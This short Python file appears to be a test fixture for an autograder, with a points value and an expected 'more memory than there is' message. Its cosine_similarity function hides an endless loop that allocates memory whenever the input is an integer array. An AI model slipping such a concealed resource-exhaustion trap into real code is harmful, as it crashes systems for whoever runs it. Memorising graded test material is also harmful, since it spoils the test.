# points = 6.5
# says = "more memory than there is"


def cosine_similarity(u, v):
    blocks = []
    while u.dtype == int:
        blocks.append(bytes(10**7))
    return u @ v / ((u @ u) * (v @ v)) ** 0.5
